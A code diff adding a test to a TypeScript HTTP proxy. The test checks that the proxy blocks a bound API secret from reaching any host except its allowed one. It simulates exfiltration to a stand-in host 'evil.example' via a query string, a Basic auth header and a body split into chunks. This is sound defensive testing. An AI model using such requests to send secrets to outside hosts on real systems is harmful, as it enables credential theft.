@@ -6,6 +6,7 @@ import { tmpdir } from 'node:os';
 import { join } from 'node:path';
 import { text } from 'node:stream/consumers';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { bindSecret, Secret } from '@tendon/protocol/masking';
 import { listenProxy, type Proxy } from './listen-proxy.ts';
 
 let folder = '';
@@ -60,6 +61,41 @@ describe('proxy', () => {
     expect(String((await once(socket, 'data'))[0])).toBe('ping');
     socket.end();
     await once(socket, 'close');
+  });
+
+  it('TR918: refuses a plain request that carries a secret to a host that it is not for, in its address, a header or its body', async () => {
+    const bodies: string[] = [];
+    const port = await listening(
+      createServer(async (request, response) => {
+        const body = await text(request).catch(() => 'broken off');
+        bodies.push(body);
+        response.end(body);
+      }),
+    );
+    const value = 'hunter2-hunter2-é';
+    proxy = await listenProxy(path(), {
+      dial: internet(port),
+      boundSecrets: () => [bindSecret('API_KEY', ['api.example.com'], new Secret(value))],
+    });
+    const ask = async (host: string, { at = '/', header = 'x', parts = [] as readonly (string | Buffer)[] } = {}) => {
+      const outgoing = httpRequest({ socketPath: path(), method: 'POST', path: `http://${host}${at}`, headers: { host, 'x-key': header } });
+      for (const part of parts) outgoing.write(part);
+      outgoing.end();
+      const [response] = (await once(outgoing, 'response')) as [IncomingMessage];
+      return [response.statusCode, await text(response)];
+    };
+    const bytes = Buffer.from(`begin ${value} end`);
+    const cut = [bytes.subarray(0, 12), bytes.subarray(12, 21), bytes.subarray(21)];
+    const refused = [403, expect.stringContaining('the secret API_KEY may go to api.example.com alone, not to evil.example') as unknown];
+    expect(await ask('evil.example', { at: `/?k=${encodeURIComponent(value)}` })).toEqual(refused);
+    expect(await ask('evil.example', { header: `Basic ${Buffer.from(`me:${value}`).toString('base64')}` })).toEqual(refused);
+    expect(bodies).toEqual([]);
+    expect(await ask('evil.example', { parts: cut })).toEqual(refused);
+    expect(bodies.join()).not.toContain('hunter2-hunter2');
+    expect(await ask('eu.api.example.com', { parts: cut })).toEqual([200, bytes.toString()]);
+    const harmless = ['hunter2-', 'hunter', Buffer.from([0, 255, 128])];
+    expect((await ask('evil.example', { parts: harmless }))[0]).toBe(200);
+    expect(bodies.at(-1)).toContain('hunter2-hunter');
   });
 
   it('SB22: forwards plain requests, without the headers of the hop', async () => {
